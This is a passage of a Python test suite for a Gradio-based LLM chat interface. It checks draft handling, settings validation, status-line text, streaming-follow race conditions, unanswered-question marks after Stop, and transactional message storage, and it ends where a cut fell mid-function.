    await page.select(b, 2000.0, request, "hello from A")  # the click, handled first
    answer = await page.send("hello from A", a_form, 1990.0, request)  # A's Enter
    assert answer == (json.dumps({"at": 1990.0, "draft": ""}), SKIP), (
        "A's message came back to B's box"
    )
    await until_idle(page.replies)
    assert texts(store, a) == [] and texts(store, b) == [] and engine.requests == []
    assert store.get(b).settings == b_settings, "A's settings boxes were saved to B"
    assert said == [
        "Not sent: you switched chats; your message is kept as the draft of «chat A»."
    ], said
    assert draft_in((await page.select(a, 3000.0, request, ""))[0]) == "hello from A"
    assert page.tab(request).draft.attachments == [("notes.txt", "the code is plum\n")]
    # a click that did not carry the box's text, on New chat: the text is kept all the same
    await page.new_chat(4000.0, request)
    assert draft_in((await page.send("second try", a_form, 3990.0, request))[0]) == ""
    assert [c.id for c in store.list()] == [b, a], "a chat was stored for the message"
    assert draft_in((await page.select(a, 5000.0, request, ""))[0]) == "second try"
    assert page.tab(request).draft.attachments == [("notes.txt", "the code is plum\n")]
    # sent after the click (a later Enter): sent into the chat shown
    await page.send("second try", a_form, 5500.0, request)
    await until_idle(page.replies)
    [(_, question), (role, _)] = texts(store, a)
    assert question.startswith("second try") and "plum" in question and role == "assistant", (
        question
    )


@pytest.mark.anyio
async def test_an_emptied_settings_box_saves_nothing_and_shows_the_saved_value_again(store) -> None:
    """An emptied number box, once left, saved 0 or the slider's lowest value (temperature 0, the
    repetition penalty 1). It saves nothing: the box gets the value in force back, and a message
    sent meanwhile uses that value. An empty seed stays a random one."""
    from minisgl_app.chat.settings_form import form_settings
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    conv_id = store.create(title="a").id
    await page.select(conv_id, None, request)
    saved = store.get(conv_id).settings
    for index, name in (
        (1, "temperature"),
        (2, "top_p"),
        (3, "max_tokens"),
        (5, "top_k"),
        (8, "repetition_penalty"),
    ):
        form = list(
            page.fields(page.tab(request))[1 : 1 + len(SETTING_FIELDS)]
        )  # the boxes as the page shows them
        for empty in (None, ""):
            form[index] = empty
            assert (await page.settings_changed(SettingsForm(*form), None, request))[
                index
            ] == getattr(saved, name), name
            assert store.get(conv_id).settings == saved, name
            assert form_settings(SettingsForm(*form), in_force=saved) == (saved, {}), name
    form = list(page.fields(page.tab(request))[1 : 1 + len(SETTING_FIELDS)])
    for seed in (7, None):
        form[6] = seed
        assert await page.settings_changed(SettingsForm(*form), None, request) == (SKIP,) * len(
            SETTING_FIELDS
        )  # no box is touched (one may be typed into)
        assert store.get(conv_id).settings.seed == seed


def test_the_status_line_names_every_replicas_device():
    from types import SimpleNamespace

    from minisgl_app.chat.view import status_line
    from minisgl_engine.messages import StatsMsg

    info = {"dtype": "bfloat16", "tp": 1}
    client = SimpleNamespace(
        ready=True,
        model_name="qwen3-0.6b",
        startup_errors={},
        worker_info={
            "minisgl-tokenizer-0": {"thinks": False},
            "minisgl-DP0-scheduler": {**info, "device": "cuda:0", "replica": 0},
            "minisgl-DP1-scheduler": {**info, "device": "cuda:1", "replica": 1},
        },
        stats=StatsMsg(
            running=3,
            waiting=0,
            kv_pages_total=200,
            kv_pages_used=20,
            kv_pages_cached=10,
            kv_pages_free=170,
            prompt_tokens_total=0,
            generation_tokens_total=0,
            requests_finished_total=0,
            requests_aborted_total=0,
            prefix_cache_hit_tokens_total=0,
        ),
    )
    client.scheduler_info = client.worker_info["minisgl-DP0-scheduler"]
    line = status_line(client)
    text = re.sub(
        r"<[^>]+>", "", line
    )  # as shown on a wide screen (a narrow one leaves out the wide-only parts)
    assert "qwen3-0.6b on cuda:0, cuda:1 (bfloat16)" in text and "3 running" in text, line
    narrow = re.sub(r'<span class="wide-only">.*?</span>', "", line)
    assert "qwen3-0.6b on cuda:0, cuda:1 · 3 running, 0 waiting" in narrow and "KV" not in narrow, (
        narrow
    )


def test_the_status_line_says_generating_while_the_engine_replies_and_ready_once_idle():
    """The line said "Ready · 1 running" while a reply streamed: it says "Generating" while the
    engine has a request running or waiting, "Ready" once it has none."""
    from types import SimpleNamespace

    from minisgl_app.chat.view import status_line
    from minisgl_engine.messages import StatsMsg

    def line(running: int, waiting: int = 0) -> str:
        stats = StatsMsg(
            running=running,
            waiting=waiting,
            kv_pages_total=200,
            kv_pages_used=20 * running,
            kv_pages_cached=10,
            kv_pages_free=170,
            prompt_tokens_total=0,
            generation_tokens_total=0,
            requests_finished_total=0,
            requests_aborted_total=0,
            prefix_cache_hit_tokens_total=0,
        )
        info = {"dtype": "float32", "device": "cpu"}
        client = SimpleNamespace(
            ready=True,
            model_name="demo",
            startup_errors={},
            worker_info={"minisgl-TP0-scheduler": info},
            scheduler_info=info,
            stats=stats,
        )
        return re.sub(r"<[^>]+>", "", status_line(client))

    assert line(1).startswith("**Generating** · demo on cpu") and "1 running" in line(1), line(1)
    assert line(0, waiting=2).startswith("**Generating**"), line(0, 2)
    assert line(0).startswith("**Ready** · demo on cpu") and "0 running" in line(0), line(0)
    # short enough not to wrap at 1280 px (the KV part said "KV cache: 20 in use, 10 cached, 200 total pages")
    assert (
        line(1)
        == "**Generating** · demo on cpu (float32) · 1 running, 0 waiting · KV 20/200 pages (10 cached)"
    ), line(1)


@pytest.mark.anyio
async def test_the_status_line_says_generating_as_soon_as_a_reply_starts_in_the_page(store) -> None:
    """The status line said Ready for up to a second after Send, beside a reply that said
    "replying…": the engine's figures come a step later. Send's own answer, the view and the
    tick say Generating while the chat shown has a reply running or queued; Ready once it ends."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(
        FakeClient(FakeEngine(step_s=0.05)), store
    )  # its line says Ready: the engine has not reported yet
    request = FakeRequest()
    box, status = await page.send("one two three four five", SETTINGS, None, request)
    tab = page.tab(request)
    assert draft_in(box) == "" and status == "**Generating** · fake", status
    assert (
        page.render(tab).status == "**Generating** · fake"
        and page.status_of(tab) == "**Generating** · fake"
    )
    await until_idle(page.replies)
    assert (
        page.render(tab).status == "**Ready** · fake" and page.status_of(tab) == "**Ready** · fake"
    )


@pytest.mark.anyio
async def test_the_tick_leaves_the_status_line_to_a_running_follow(store) -> None:
    """Issue 45, item 9: as a reply ended, the tick said "Ready · 0 running" while the page
    still showed the reply "replying…" and Stop red: the follow draws the reply's end a moment
    later (its next render), the tick's line came first. While the tab's follow runs, the status
    line is the follow's, drawn with the chat and Stop in one render."""
    from minisgl_app.page.page_view import PageView
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine(step_s=0.01)), store)
    request = FakeRequest()
    await page.send("one two three", SETTINGS, None, request)
    follow = page.follow(request)
    first = await anext(follow)  # what the page shows: the reply running
    status = PageView._fields.index("status")
    assert first[status].startswith("**Generating**"), first[status]
    await until_idle(page.replies)  # the reply ends before the follow renders again
    said = (await page.tick(False, request))[status]
    assert said == SKIP, f"the tick said {said!r} while the page showed the reply running"
    last = [output async for output in follow][0]
    assert last[status] == "**Ready** · fake", last[status]


# ---- the view after a view change: two follow events of one tab

SKIP = {"__type__": "update"}  # gr.skip(): leaves an output as it is


def test_gradio_sends_a_generators_last_output_again_with_its_end() -> None:
    """Why a follow's last output matters: Gradio's final message of a generator event repeats
    its last output in full (diffs only in between), and the browser applies it, maybe after a
    newer follow's render. (A Gradio that stops doing so makes this test fail, not the page.)"""
    from types import SimpleNamespace

    import gradio as gr

    fn = SimpleNamespace(outputs=[None, None])
    blocks = gr.Blocks()
    assert blocks.handle_streaming_diffs(fn, [["chat A"], "x"], "tab-1", "run", final=False) == [
        ["chat A"],
        "x",
    ]
    assert blocks.handle_streaming_diffs(
        fn, [["chat A", "reply"], "x"], "tab-1", "run", final=False
    ) != [["chat A", "reply"], "x"]
    assert blocks.handle_streaming_diffs(fn, [None, None], "tab-1", "run", final=True) == [
        ["chat A", "reply"],
        "x",
    ]


@pytest.mark.anyio
async def test_a_follow_ends_on_an_output_that_changes_nothing(store) -> None:
    """New chat while chat A streams: A's follow renders A, the new follow renders the empty
    chat. Whatever Gradio sends again of the older follow when it ends (its last output) must
    leave the new chat on the page, in whichever order the browser applies the two."""
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine(step_s=0.05)
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    await page.send(" ".join(f"w{i}" for i in range(60)), SETTINGS, None, request)
    old = page.follow(request)
    rendered = await anext(old)
    assert rendered[0] and "w0" in str(rendered[0][0]), rendered
    await page.new_chat(None, request)
    new = page.follow(request)
    first_new = asyncio.ensure_future(anext(new))
    old_outputs = [
        output async for output in old
    ]  # the older follow ends (the newer one waits for it)
    [chat, *_] = await first_new
    assert chat == [], chat
    last = (old_outputs or [rendered])[-1]  # what Gradio sends again as the older follow ends
    assert all(last[i] == SKIP for i in (0, 1, 4)), f"the older follow ends on {str(last)[:200]}"
    new_outputs = [output async for output in new]
    assert new_outputs and all(new_outputs[-1][i] == SKIP for i in (0, 1, 4)), new_outputs
    assert new_outputs[-1][2]["value"] is None, (
        "the newer follow ends on its own sidebar: no chat selected"
    )
    page.replies.stop_all(store.list()[0].id)
    await until_idle(page.replies)


@pytest.mark.anyio
async def test_a_follow_replaced_before_it_rendered_ends_on_an_output_that_changes_nothing(
    store,
) -> None:
    """A follow that never rendered would end on Gradio's None for every output (an empty chat,
    no chat selected) if it yielded nothing."""
    from minisgl_app.page.page_view import VIEW_SIZE
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    running = page.follow(request)
    await anext(running)  # renders the new chat; ends at its next step
    waiting = page.follow(request)  # waits for `running` to end...
    first = asyncio.ensure_future(anext(waiting))
    await asyncio.sleep(0)
    newest = page.follow(request)  # ...and is replaced before it renders
    newest_first = asyncio.ensure_future(anext(newest))
    assert [o async for o in running][-1][0] == SKIP
    assert await first == (SKIP,) * VIEW_SIZE
    assert (await newest_first)[0] == []


@pytest.mark.anyio
async def test_the_tick_sends_the_whole_view_once_after_a_follow_took_over(
    store, monkeypatch
) -> None:
    """The browser may apply an older follow's message after the newer one's render: once the
    newer one has ended, the tick sets the view again (once), whatever the browser last got."""
    from minisgl_app.page import following
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    a = store.create(title="chat A")
    store.append(a.id, "user", "hello A")
    first = page.follow(request)
    await anext(first)
    page.tab(request).conv_id = a.id
    second = page.follow(request)  # took over from `first`
    pending = asyncio.ensure_future(anext(second))
    [o async for o in first]
    await pending
    [o async for o in second]
    chat, *rest = await page.tick(False, request)
    assert chat == SKIP, "the view is sent again only a while after the follow ended"
    monkeypatch.setattr(page.tab(request).follows, "recheck_at", 0.0)
    chat, *rest = await page.tick(False, request)
    assert "hello A" in str(chat), chat
    assert (await page.tick(False, request))[0] == SKIP, "once"
    monkeypatch.setattr(
        following, "RACE_S", 0.0
    )  # no follow ended just before this one: nothing to set again
    alone = page.follow(request)
    [o async for o in alone]
    monkeypatch.setattr(following, "RECHECK_AFTER_S", 0.0)
    assert (await page.tick(False, request))[0] == SKIP


@pytest.mark.anyio
async def test_new_chat_clicked_before_the_page_load_is_answered_is_kept(store) -> None:
    """Gradio may run a click before the page's load event (both are sent at once on a slow
    machine): the load must not put the latest chat back over the user's New chat."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    store.create(title="older chat")
    await page.new_chat(None, request)
    title, *_ = await page.load_page(request)
    assert page.tab(request).conv_id is None and title == ""
    fresh = FakeRequest()
    fresh.session_hash = "tab-2"
    title, *_ = await page.load_page(fresh)
    assert title == "older chat", "a tab nobody clicked in opens on the latest chat"


def test_gradio_applies_a_streamed_diff_in_place_so_a_follow_never_turns_an_update_into_a_skip(
    store,
) -> None:
    """Why SENT_AS_UPDATES (app/page/page_view.py): Gradio streams a generator's later outputs as diffs, and a
    dict -> skip diff is "delete each key"; its browser client applies diffs in place, to the
    object an earlier message still holds, so a sidebar sent then skipped can vanish before the
    page draws it (seen: an empty sidebar after a reload). A follow's consecutive outputs must
    therefore diff without deleting any key of an update dict."""
    import gradio as gr
    from gradio.utils import diff

    from minisgl_app.page.page_view import SENT_AS_UPDATES, PageView
    from minisgl_app.page.ui import ChatPage

    sidebar = gr.update(choices=[("chat A", 1)], value=1)
    assert any(op == "delete" for op, *_ in diff(sidebar, gr.skip())), (
        "Gradio no longer diffs this way: revisit SENT_AS_UPDATES"
    )

    async def outputs_of_a_follow() -> list[tuple]:
        page = ChatPage(FakeClient(FakeEngine(step_s=0.02)), store)
        request = FakeRequest()
        await page.send(" ".join(f"w{i}" for i in range(20)), SETTINGS, None, request)
        return [o async for o in page.follow(request)]

    outputs = asyncio.run(outputs_of_a_follow())
    assert len(outputs) >= 3, outputs
    updates = {
        i
        for o in outputs
        for i, value in enumerate(o)
        if isinstance(value, dict) and set(value) - {"__type__"}
    }
    assert updates <= {PageView._fields.index(name) for name in SENT_AS_UPDATES}, updates
    for before, after in zip(outputs, outputs[1:]):
        for i in updates:
            edits = (
                diff(before[i], after[i])
                if isinstance(before[i], dict) and isinstance(after[i], dict)
                else []
            )
            assert not any(op == "delete" for op, *_ in edits), (
                f"output {i}: {before[i]} -> {after[i]}"
            )


def test_a_refused_setting_is_named_alone_in_words_that_fit_it() -> None:
    """Each wrong field gets its own message (not "temperature, top-p and max tokens must be
    numbers" for an empty max tokens); an empty seed is a random one, not a problem."""
    from minisgl_app.chat.settings_form import form_settings

    ok = ("", 0.7, 0.9, 256, False, 0, None, "")
    settings, problems = form_settings(SettingsForm(*ok))
    assert problems == {} and settings.max_tokens == 256 and settings.seed is None
    assert form_settings(SettingsForm("", 0.7, 0.9, None, False, 0, "", ""))[1] == {
        "max_tokens": "max tokens must be a number"
    }
    assert (
        "whole number"
        in form_settings(SettingsForm("", 0.7, 0.9, 3.7, False, 0, None, ""))[1]["max_tokens"]
    )
    assert set(form_settings(SettingsForm("", 0.7, 0.9, 0, False, -3, -1, ""))[1]) == {
        "max_tokens",
        "top_k",
        "seed",
    }
    assert form_settings(SettingsForm("", 0.7, 0.9, 40.0, False, 5.0, 7.0, ""))[0].max_tokens == 40
    assert form_settings(SettingsForm("", 0.7, 0.9, 40, False, None, None, ""))[0].top_k == 0, (
        "an empty top-k is off, as before"
    )


def test_waiting_and_not_answered_lines_sit_on_one_side_where_the_reply_goes(store) -> None:
    """A question's "waiting" line sat on the user's side, its "not answered" line on the model's:
    every such line sits on the model's side, where its reply goes (and where Gradio shows ↻,
    which answers a question left unanswered, under the chat's last line)."""
    c = store.create().id
    for role, text in (("user", "q1"), ("assistant", "a1"), ("user", "left"), ("user", "last")):
        store.append(c, role, text)
    left = store.get(c).messages[2]
    store.update_message(left.id, left.content, {"unanswered": True})

    def sides(busy: bool) -> dict[str, str]:
        return {
            v.shown["metadata"]["title"]: v.shown["role"]
            for v in view_messages(store.get(c), busy=busy)
            if v.is_line
        }

    busy, idle = sides(True), sides(False)
    assert busy == {view.LEFT_LINE: "assistant", view.WAITING_LINE: "assistant"}, busy
    assert idle == {view.LEFT_LINE: "assistant", view.UNANSWERED_LINE: "assistant"}, idle


@pytest.mark.anyio
async def test_a_message_sent_during_a_reply_says_it_waits_until_its_reply_starts(store) -> None:
    """A question sent while the chat replies shows a "waiting" line under it (it looked ignored
    before), gone once its own reply starts; page indexes of earlier messages do not move."""
    from minisgl_app.chat.view import WAITING_LINE
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine(step_s=0.05)), store)
    request = FakeRequest()
    await page.send(" ".join(f"w{i}" for i in range(20)), SETTINGS, None, request)
    await asyncio.sleep(0.1)
    await page.send("second question", SETTINGS, None, request)
    tab = page.tab(request)
    titles = [v.shown.get("metadata", {}).get("title") for v in page.view_of(page.shown(tab), tab)]
    assert titles[-1] == WAITING_LINE and titles.count(WAITING_LINE) == 1, titles
    await until_idle(page.replies, 10)
    titles = [v.shown.get("metadata", {}).get("title") for v in page.view_of(page.shown(tab), tab)]
    assert WAITING_LINE not in titles and texts(store, tab.conv_id)[-2][1] == "second question", (
        titles
    )


def test_a_name_in_a_markdown_sentence_shows_as_typed():
    """The models panel and the import's line quote names and paths inside Markdown: none of it is Markdown."""
    from minisgl_app.chat.view import markdown_literal

    assert markdown_literal("Qwen/Qwen3-0.6B") == "Qwen/Qwen3-0.6B"
    assert markdown_literal("a*b*_c_<i>d</i>[e](f)") == r"a\*b\*\_c\_\<i\>d\</i\>\[e\]\(f\)"
    assert markdown_literal("C:\\models\nnext") == r"C\:\\models next"


@pytest.mark.anyio
async def test_a_continue_that_adds_nothing_keeps_the_replys_figures_and_says_why(
    store, monkeypatch
) -> None:
    """Continue on a stopped reply whose model ends at once (EOS first): the reply's text and its
    time to first token and tok/s stay (they were blanked: this run has no first token), its
    tokens count the new run's, and the page says in a toast why nothing changed."""
    from minisgl_app.page import toasts
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine(step_s=0.02)
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    await page.send(" ".join(f"w{i}" for i in range(40)), SETTINGS, None, request)
    await asyncio.sleep(0.15)
    await page.stop(None, request)
    await until_idle(page.replies)
    tab = page.tab(request)
    before = store.get(tab.conv_id).messages[-1]
    assert (
        before.stats.stopped and before.stats.ttft_ms is not None and before.stats.tok_s is not None
    ), before.stats
    said: list[str] = []
    monkeypatch.setattr(toasts.gr, "Info", said.append)
    engine.ends_at_once = True
    [o async for o in page.follow(request)]  # the tab has seen the chat as it is
    await page.continue_reply(request)
    # the follow the page starts with Continue says it as it ends: not left to the
    # once-a-second tick, which a busy machine may lose
    [o async for o in page.follow(request)]
    assert said == [live.NOTHING_TO_ADD]
    await until_idle(page.replies)
    after = store.get(tab.conv_id).messages[-1]
    assert after.id == before.id and after.content == before.content
    assert (after.stats.ttft_ms, after.stats.tok_s) == (before.stats.ttft_ms, before.stats.tok_s), (
        after.stats
    )
    assert (
        after.stats.tokens == before.stats.tokens + 1
        and after.stats.finish_reason == "stop"
        and not after.stats.stopped
    )
    await page.tick(False, request)
    assert said == [live.NOTHING_TO_ADD], "said once"


@pytest.mark.anyio
async def test_stop_with_a_message_waiting_stops_the_chat_and_leaves_the_question_for_retry(
    store,
) -> None:
    """Stop while a second message waits: the chat stops (the waiting message was answered at
    once before, which a user who pressed Stop did not expect). The question stays, marked as not
    answered with ↻'s hint, and ↻ (regenerate: turn_for after it) answers it."""
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine(step_s=0.03)
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    await page.send(" ".join(f"w{i}" for i in range(40)), SETTINGS, None, request)
    await asyncio.sleep(0.1)
    await page.send("second question", SETTINGS, None, request)
    tab = page.tab(request)
    assert page.replies.queued.get(tab.conv_id)
    await page.stop(None, request)
    await until_idle(page.replies)
    assert len(engine.requests) == 1, "the waiting message was sent to the engine"
    assert texts(store, tab.conv_id)[-1] == ("user", "second question")
    assert store.get(tab.conv_id).messages[-2].stats.stopped
    last = page.view_of(page.shown(tab), tab)[-1].shown
    assert (last["metadata"]["title"], last["content"]) == (
        view.UNANSWERED_LINE,
        view.UNANSWERED_HINT,
    )
    assert "Stop" in view.UNANSWERED_HINT and "↻" in view.WAITING_HINT
    [o async for o in page.follow(request)]  # the tab has seen the chat as it is
    await page.regenerate(request)
    await until_idle(page.replies)
    assert texts(store, tab.conv_id)[-2:] == [
        ("user", "second question"),
        ("assistant", "echo: second question"),
    ]


async def stop_with_questions_waiting(page, request, *questions: str) -> None:
    """A long reply streams, ``questions`` are sent meanwhile (they wait), then Stop: the chat
    ends with them unanswered, and the tab has seen it so."""
    await page.send(" ".join(f"w{i}" for i in range(40)), SETTINGS, None, request)
    await asyncio.sleep(0.1)
    for question in questions:
        await page.send(question, SETTINGS, None, request)
    await page.stop(None, request)
    await until_idle(page.replies)
    [o async for o in page.follow(request)]


@pytest.mark.anyio
async def test_a_message_sent_after_stop_left_questions_unanswered_is_answered_on_its_own(
    store,
) -> None:
    """Stop while two questions wait, then a new message: the three questions were answered by
    one reply (the model saw them all) and the "not answered" mark vanished. The new message is
    answered on its own: the questions left keep a "not answered" line, the model does not see
    them, now or in later turns; questions sent while the chat replies are still answered
    together by the reply after the last of them."""
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine(step_s=0.03)
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    await stop_with_questions_waiting(page, request, "second question", "third question")
    tab = page.tab(request)
    await page.send("fourth question", SETTINGS, None, request)
    await until_idle(page.replies)
    assert texts(store, tab.conv_id)[2:] == [
        ("user", "second question"),
        ("user", "third question"),
        ("user", "fourth question"),
        ("assistant", "echo: fourth question"),
    ]
    seen = [m["content"] for m in engine.requests[-1].messages]
    assert "fourth question" in seen and not {"second question", "third question"} & set(seen), seen
    shown = page.view_of(page.shown(tab), tab)
    marks = [
        (v.source.content, v.shown["metadata"]["title"])
        for v in shown
        if v.is_line and v.source.role == "user"
    ]
    assert marks == [("second question", view.LEFT_LINE), ("third question", view.LEFT_LINE)], marks
    # a later turn leaves them out too
    [o async for o in page.follow(request)]
    await page.send("fifth", SETTINGS, None, request)
    await until_idle(page.replies)
    seen = [m["content"] for m in engine.requests[-1].messages]
    assert (
        seen[-3:] == ["fourth question", "echo: fourth question", "fifth"]
        and "second question" not in seen
    ), seen
    # sent while it replies: answered together, nothing marked
    await page.send(" ".join(f"v{i}" for i in range(30)), SETTINGS, None, request)
    await asyncio.sleep(0.1)
    await page.send("sixth", SETTINGS, None, request)
    await page.send("seventh", SETTINGS, None, request)
    await until_idle(page.replies)
    assert [m["content"] for m in engine.requests[-1].messages][-2:] == ["sixth", "seventh"]
    assert texts(store, tab.conv_id)[-1] == ("assistant", "echo: seventh")
    assert not any(
        v.is_line and v.source.role == "user" for v in page.view_of(page.shown(tab), tab)[-4:]
    )


@pytest.mark.anyio
async def test_the_unanswered_marks_are_stored_in_one_transaction_with_the_message_sent(
    store, tmp_path, monkeypatch
) -> None:
    """The questions left unanswered by Stop were marked one write each, before the message sent
    was stored in a write of its own: a failed store of the message kept the marks (the
    questions then hidden from the model, with no message after them). The marks and the
    message are one transaction: both or neither. The files attached stay attached until the
    message is stored (a failed store dropped them), and a new chat is stored with its first
    message in one transaction (a failed store left an empty chat in the sidebar)."""
    import sqlite3

    from minisgl_app.chat.store import tree as tree_module
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine(step_s=0.05)), store)
    request = FakeRequest()
    notes = tmp_path / "notes.txt"
    notes.write_text("the code is plum\n", encoding="utf-8")
    await stop_with_questions_waiting(page, request, "second question", "third question")
    conv_id = page.tab(request).conv_id

    def marked() -> list[str]:
        return [
            m.content
            for m in store.get(conv_id).messages
            if m.stats is not None and m.stats.unanswered
        ]

    assert marked() == []
    real_add = tree_module.add

    def failing_add(*args, **kwargs):
        raise sqlite3.OperationalError("disk I/O error")

    await page.attach([uploaded(page, notes)], request)
    monkeypatch.setattr(tree_module, "add", failing_add)
    with pytest.raises(sqlite3.OperationalError):
        await page.send("a new question", SETTINGS, None, request)
    assert marked() == [], "marks stored without the message"
    assert page.tab(request).draft.attachments == [("notes.txt", "the code is plum\n")], (
        "the file was dropped"
    )
    monkeypatch.setattr(tree_module, "add", real_add)
    await page.send("a new question", SETTINGS, None, request)
    assert marked() == ["second question", "third question"]
    assert "plum" in [m for m in store.get(conv_id).messages if m.role == "user"][-1].content
    assert page.tab(request).draft.attachments == []
    await until_idle(page.replies)
    # a new chat's first message: the chat and the message are one transaction too
    chats = [c.id for c in store.list()]
    await page.new_chat(None, request)
    await page.attach([uploaded(page, notes)], request)
    monkeypatch.setattr(tree_module, "add", failing_add)
    with pytest.raises(sqlite3.OperationalError):
        await page.send("a first question", SETTINGS, None, request)
    assert [c.id for c in store.list()] == chats, "an empty chat was left"
    assert page.tab(request).conv_id is None and page.tab(request).draft.attachments == [
        ("notes.txt", "the code is plum\n")
    ]
    monkeypatch.setattr(tree_module, "add", real_add)
    await page.send("a first question", SETTINGS, None, request)
    new = store.get(page.tab(request).conv_id)
    assert (
        new.id not in chats
        and new.messages[0].content.startswith("a first question")
        and "plum" in new.messages[0].content
    )
    await until_idle(page.replies)


class FirstReplyWaitsForStop(FakeEngine):
    """The first request gives no output until it is stopped (a long prefill on a CPU)."""

    async def generate(self, request: GenerateRequest, stop: asyncio.Event):
        if not self.requests:
            self.requests.append(request)
            await stop.wait()
            self.aborted += 1
            return
        async for out in FakeEngine.generate(self, request, stop):
            yield out


@pytest.mark.anyio
async def test_a_question_stopped_before_its_first_word_is_not_sent_with_the_next_one(
    store,
) -> None:
    """Stop before the reply's first word leaves the question and an empty reply; the next
    message was sent to the model right after that question, as two questions in a row (the
    empty reply is left out). The model sees the new message alone."""
    from minisgl_app.page.ui import ChatPage

    engine = FirstReplyWaitsForStop()
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    await page.send("first question", SETTINGS, None, request)
    await asyncio.sleep(0.05)
    await page.stop(None, request)
    await until_idle(page.replies)
    tab = page.tab(request)
    assert texts(store, tab.conv_id) == [("user", "first question"), ("assistant", "")]
    await page.send("second question", SETTINGS, None, request)
    await until_idle(page.replies)
    seen = [m["content"] for m in engine.requests[-1].messages]
    assert seen[-1] == "second question" and "first question" not in seen, seen
    assert texts(store, tab.conv_id)[-1] == ("assistant", "echo: second question")


@pytest.mark.anyio
async def test_a_message_sent_while_a_stopped_reply_winds_down_is_answered_on_its_own(
    store,
) -> None:
    """Send right after Stop, before the stopped reply's task has ended (the chat still counts
    as busy): the message was taken for one sent while the chat replies, and the question that
    waited was answered with it. A stopped reply answers nothing more: the waiting question is
    left unanswered, the new one answered alone."""
    from minisgl_app.page.ui import ChatPage

    engine = FakeEngine(step_s=0.05)
    page = ChatPage(FakeClient(engine), store)
    request = FakeRequest()
    await page.send(" ".join(f"w{i}" for i in range(40)), SETTINGS, None, request)
    await asyncio.sleep(0.12)
    await page.send("waiting question", SETTINGS, None, request)
    tab = page.tab(request)
    await page.stop(None, request)
    assert page.replies.is_busy(tab.conv_id)  # the stopped reply has not wound down yet
    await page.send("new question", SETTINGS, None, request)
    await until_idle(page.replies)
    seen = [m["content"] for m in engine.requests[-1].messages]
    assert seen[-1] == "new question" and "waiting question" not in seen, seen
    marks = [
        (v.source.content, v.shown["metadata"]["title"])
        for v in page.view_of(page.shown(tab), tab)
        if v.is_line and v.source.role == "user"
    ]
    assert marks == [("waiting question", view.LEFT_LINE)], marks


@pytest.mark.anyio
async def test_every_question_left_waiting_by_stop_says_it_was_not_answered(store) -> None:
    """Stop with two questions waiting: only the last said "not answered", the one before it
    nothing, though neither has a reply. Each says so (↻ answers them together)."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine(step_s=0.03)), store)
    request = FakeRequest()
    await page.send(" ".join(f"w{i}" for i in range(40)), SETTINGS, None, request)
    await asyncio.sleep(0.1)
    await page.send("second question", SETTINGS, None, request)
    await page.send("third question", SETTINGS, None, request)
    tab = page.tab(request)
    waiting = [
        (v.source.content, v.shown["metadata"]["title"])
        for v in page.view_of(page.shown(tab), tab)
        if v.is_line and v.source.role == "user"
    ]
    assert waiting == [
        ("second question", view.WAITING_LINE),
        ("third question", view.WAITING_LINE),
    ], waiting
    await page.stop(None, request)
    await until_idle(page.replies)
    marks = [
        (v.source.content, v.shown["metadata"]["title"])
        for v in page.view_of(page.shown(tab), tab)
        if v.is_line and v.source.role == "user"
    ]
    assert marks == [
        ("second question", view.UNANSWERED_LINE),
        ("third question", view.UNANSWERED_LINE),
    ], marks


@pytest.mark.anyio
async def test_editing_the_first_message_retitles_a_chat_the_user_never_renamed(store) -> None:
    """A chat's title is made from its first message; ✎ on that message (a new version) left the
    old title. It follows the new text unless the user renamed the chat; a later message's edit
    never touches it."""
    import gradio as gr

    from minisgl_app.chat.store import title_from
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    await page.send("What is the capital of France?", SETTINGS, None, request)
    await until_idle(page.replies)
    tab = page.tab(request)
    assert store.get(tab.conv_id).title == title_from("What is the capital of France?")

    async def edit(index: int, old: str, new: str):
        [o async for o in page.follow(request)]  # the tab has seen the chat as it is
        title, _ = await page.edit(
            gr.EditData(None, {"index": index, "value": new, "previous_value": old}), request
        )
        await until_idle(page.replies)
        return title

    assert (
        await edit(0, "What is the capital of France?", "And the capital of Spain?")
        == "And the capital of Spain?"
    )
    assert store.get(tab.conv_id).title == "And the capital of Spain?"
    [o async for o in page.follow(request)]
    await page.send("Its river?", SETTINGS, None, request)
    await until_idle(page.replies)
    shown = page.view_of(page.shown(tab), tab)
    later = next(
        i for i, v in enumerate(shown) if v.source is not None and v.source.content == "Its river?"
    )
    await edit(later, "Its river?", "Its mountains?")
    assert store.get(tab.conv_id).title == "And the capital of Spain?", (
        "only the first message makes the title"
    )
    await page.rename("My trip", request)
    assert await edit(0, "And the capital of Spain?", "And of Italy?") == SKIP
    assert store.get(tab.conv_id).title == "My trip", "a title the user chose stays"


async def a_chat_answered(store, question: str):
    """A page whose tab sent ``question``, had it answered and has drawn the chat. Returns the
    page, the tab's request and the tab."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    await page.send(question, SETTINGS, None, request)
    await until_idle(page.replies)
    tab = page.tab(request)
    [o async for o in page.follow(request)]
    return page, request, tab


async def chat_with_its_first_message_edited(store):
    """A chat whose first question "What is the capital of France?" was edited (✎) to "And of
    Spain?": two versions, the chat retitled. Returns the page, the tab's request and the tab."""
    import gradio as gr

    page, request, tab = await a_chat_answered(store, "What is the capital of France?")
    await page.edit(
        gr.EditData(
            None,
            {
